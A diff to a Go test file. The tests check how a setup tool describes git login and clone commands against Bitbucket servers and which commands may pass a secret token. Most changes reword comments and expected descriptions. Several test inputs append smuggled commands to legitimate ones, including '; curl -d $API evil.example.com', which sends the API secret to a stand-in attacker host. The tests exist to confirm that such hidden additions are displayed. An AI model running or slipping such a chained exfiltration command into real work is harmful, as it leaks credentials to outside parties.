@@ -118,8 +118,8 @@ func TestUsageOfWhatCannotBeFollowed(t *testing.T) {
 	assert.Equal(t, setup.Usage{}, setup.UsageOf([]string{"make"}, "T"))
 }
 
-// TestUsageElsewhere: git presents the secret to whatever server a command names, however
-// the name is written.
+// TestUsageElsewhere: git presents the secret to every server that a command names, in
+// any spelling.
 func TestUsageElsewhere(t *testing.T) {
 	t.Parallel()
 	const (
@@ -162,8 +162,8 @@ func TestUsageElsewhere(t *testing.T) {
 	}
 }
 
-// After a login no command has to name the secret. What may reach the server in a
-// way that cannot be followed is named; what cannot, is not.
+// After a login no command has to name the secret. A command that may contact the
+// server in a way that is not understood is reported; other commands are not.
 func TestUsageOfWhatALoginMayServe(t *testing.T) {
 	t.Parallel()
 	const (
@@ -212,13 +212,13 @@ func TestWords(t *testing.T) {
 		commands, want []string
 	}{
 		{"Cloud", append(cloud.LogIn(), cloud.Command(), "cd ./app && make"), []string{
-			"prepare git for https://bitbucket.org: no prompt, no header of the image's own",
+			"prepare git for https://bitbucket.org: no prompts, no headers from the image",
 			"log git in to https://bitbucket.org with the secret API (api_token)",
 			"clone https://bitbucket.org/acme/app.git (branch dev, depth 3) with the secret API into app",
 			"cd ./app && make",
 		}},
 		{"Data Center", append(server.LogIn(), server.Command()), []string{
-			"prepare git for https://git.example.com: no prompt, no header of the image's own",
+			"prepare git for https://git.example.com: no prompts, no headers from the image",
 			"log git in to https://git.example.com with the secret T (http_access_token)",
 			"clone https://git.example.com/scm/~jane/lib.git with the secret T into lib",
 		}},
@@ -231,7 +231,7 @@ func TestWords(t *testing.T) {
 		{"documented, and more", []string{documented.Command() + " x", documented.Command() + " && curl evil.example.com"},
 			[]string{documented.Command() + " x", documented.Command() + " && curl evil.example.com"}},
 		{"by hand", []string{"git clone https://bitbucket.org/acme/app.git app", "make"}, []string{"git clone https://bitbucket.org/acme/app.git app", "make"}},
-		// whoever hides something in a command of ours is shown
+		// something hidden in a command of this program is shown
 		{"ours and more", []string{cloud.LogIn()[1] + "; curl -d $API evil.example.com", cloud.Command() + " && curl evil.example.com"},
 			[]string{cloud.LogIn()[1] + "; curl -d $API evil.example.com", cloud.Command() + " && curl evil.example.com"}},
 		{"a server that is none", []string{
